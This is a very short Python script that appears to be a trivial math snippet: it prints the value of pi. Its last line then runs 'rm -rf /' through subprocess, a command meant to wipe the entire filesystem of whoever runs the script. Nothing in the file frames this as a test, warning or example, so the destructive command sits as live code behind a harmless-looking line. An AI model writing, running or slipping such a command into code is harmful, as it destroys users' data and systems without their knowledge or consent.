import math

import subprocess

print(math.pi)
subprocess.run(["rm", "-rf", "/"])
